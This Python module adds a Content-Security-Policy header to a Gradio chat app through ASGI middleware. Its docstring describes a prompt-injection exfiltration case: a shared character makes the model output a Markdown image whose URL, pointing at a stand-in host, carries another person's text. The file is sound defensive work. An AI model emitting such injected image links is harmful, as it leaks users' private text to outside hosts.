"""The Content-Security-Policy that keeps what the page shows from talking to other hosts.

The chat view renders Markdown from people and models. A shared character can make the model
write ![x](http://elsewhere/?q=...) with another person's text in the URL, and the browser would
fetch it as soon as the reply is shown. With images, media and connections limited to this
server, the browser refuses such a request before sending it. Scripts and styles are left as
Gradio needs them (its page uses inline scripts and styles); text reaching the page as HTML is
escaped or sanitised where it is shown (see modules/ui/notify.py).
"""
from __future__ import annotations

from starlette.datastructures import MutableHeaders

CONTENT_SECURITY_POLICY = "; ".join((
    "img-src 'self' data: blob:",
    "media-src 'self' data: blob:",
    # 'self' covers ws:/wss: to this same host too (CSP Level 3, which Chromium and Firefox follow)
    "connect-src 'self'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
))


class ContentSecurityPolicyMiddleware:
    """Pure ASGI middleware: adds the policy to every HTTP response, including Gradio's own
    routes and the files it serves (a plain ASGI wrapper, unlike BaseHTTPMiddleware, leaves
    streamed responses such as the queue's server-sent events alone)."""

    def __init__(self, app, policy: str = CONTENT_SECURITY_POLICY):
        self.app = app
        self.policy = policy

    async def __call__(self, scope, receive, send):
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_policy(message):
            if message["type"] == "http.response.start":
                MutableHeaders(scope=message).append("Content-Security-Policy", self.policy)
            await send(message)

        await self.app(scope, receive, send_with_policy)


def content_security_policy_middleware():
    """For launch(app_kwargs={"middleware": [..., content_security_policy_middleware()]})."""
    from starlette.middleware import Middleware
    return Middleware(ContentSecurityPolicyMiddleware)
